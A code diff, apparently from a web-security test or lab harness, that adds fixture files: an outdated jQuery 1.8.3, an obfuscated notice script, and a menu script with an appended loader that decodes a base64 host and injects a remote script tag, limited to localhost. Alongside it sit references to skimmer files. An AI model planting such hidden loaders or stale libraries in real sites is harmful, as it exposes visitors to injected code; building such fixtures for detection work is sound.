@@ -44,6 +44,17 @@ const BUILD_FILES = BENIGN.flatMap(({ builds }) =>
 export const GLUE = '/assets/twins/';
 const glue = (name: string, text: Text): [string, Text] => [key('shop', `${GLUE}${name}.js`), text];
 
+/** Files of the switches `vulnerable-library`, `obfuscated-script` and `library-with-tail`. */
+export const OLD_LIBRARY_PATH = '/ajax/libs/jquery/1.8.3/jquery.min.js';
+export const OBFUSCATED_PATH = '/assets/notice.js';
+export const TAILED_PATH = '/assets/tana-menu.js';
+
+/** The library with a loader of another hand behind it, its address in base64. Ports are the page's own. */
+const tailed = (): string => {
+  const host = Buffer.from('tags.localhost').toString('base64');
+  return `${assetText('tana-menu.js')};(function(d,l,k){if(!/\\.localhost$/.test(l.hostname))return;var s=d.createElement('script');s.src=l.protocol+'//'+atob(k)+':'+l.port+'/analytics.js';d.head.appendChild(s)})(document,location,'${host}');`;
+};
+
 const FILES: ReadonlyMap<string, Text> = new Map<string, Text>([
   ...SKIMMER_FILES,
   [key('tags', '/gtm/container.js'), () => skimmerText('container-script.loader')],
@@ -57,6 +68,9 @@ const FILES: ReadonlyMap<string, Text> = new Map<string, Text>([
     ),
     glue(`shop.${preset}`, () => obfuscated('shop', assetText('shop.js'), preset)),
   ]),
+  [key('cdn', OLD_LIBRARY_PATH), () => assetText('old-jquery.js')],
+  [key('shop', OBFUSCATED_PATH), () => obfuscated('notice', assetText('notice.js'), 'default')],
+  [key('shop', TAILED_PATH), tailed],
   [key('tags', '/chat/live.js'), () => twinText('chat-socket')],
   [key('tags', '/errors/tracker.js'), () => twinText('error-tracker')],
   [key('shop', '/pwa-worker.js'), () => twinText('pwa-worker.worker')],
